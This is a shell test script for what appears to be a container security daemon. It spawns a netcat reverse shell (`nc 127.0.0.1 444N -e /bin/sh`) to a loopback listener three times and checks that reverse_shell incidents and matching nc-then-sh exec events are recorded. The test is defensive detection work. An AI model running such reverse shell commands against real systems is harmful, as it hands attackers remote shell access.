#!/usr/bin/env bash
# A reverse shell in a container, in monitor mode: `nc 127.0.0.1 4444 -e
# /bin/sh` connects to a listener in the same container (its own network
# namespace, loopback only) and replaces itself with sh, whose stdin and
# stdout are the connection. Each time, the reverse_shell incident fires,
# and the pid reported as sh with the socket is reported as nc once before:
# one exec event per exec, each with its own name and file, whatever the
# daemon read of /proc (by then nc was already sh, and sh may be gone).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib_container.sh"
. "$(dirname "$0")/lib_proc.sh"
proc_setup

ct_writable_root rev
ln -s busybox "$FROOT/bin/nc"
start_daemon
proc_container rev-1 "$FROOT"
vctl group mode "$G" monitor >/dev/null

for i in 1 2 3; do
    # The listener sends one command and then holds the line a moment; the
    # shell runs it, then ends at the end of its input.
    run /bin/sh -c "(echo 'sleep 0.3'; sleep 0.8) | nc -l -p 444$i >/dev/null & sleep 0.3; nc 127.0.0.1 444$i -e /bin/sh; wait"
    [ "$RC" -eq 0 ] || fail "reverse shell run $i failed ($RC): $(cat "$T/out")"
    wait_for eval "[ \$(vctl events --json --limit 10000 --type proc.incident | jq -s '[.[] | select(.workload == \"$CT\" and .incident == \"reverse_shell\")] | length') -ge $i ]"
done
vctl events --json --limit 10000 --type proc.exec | jq -c "select(.workload == \"$CT\")" >"$T/exec.json"
# Each reverse shell's pid: one exec as nc (the connecting one), then one
# as sh with the socket, with their own files.
jq -s -e '[.[] | select(.name == "sh" and .stdio_socket == true)] | length == 3' "$T/exec.json" >/dev/null \
    || fail "not three shells with a socket: $(cat "$T/exec.json")"
for pid in $(jq -r 'select(.name == "sh" and .stdio_socket == true) | .pid' "$T/exec.json"); do
    jq -s -e --argjson p "$pid" '[.[] | select(.pid == $p)] | map(.name) == ["nc", "sh"]' "$T/exec.json" >/dev/null \
        || fail "pid $pid: not one nc then one sh: $(jq -c --argjson p "$pid" 'select(.pid == $p)' "$T/exec.json")"
    jq -s -e --argjson p "$pid" '[.[] | select(.pid == $p and .path == "/bin/busybox" and (.cmdline | length) > 0)] | length == 2' "$T/exec.json" >/dev/null \
        || fail "pid $pid: an exec without its file or command line"
done
proc_paths_agree
stop_daemon
pass
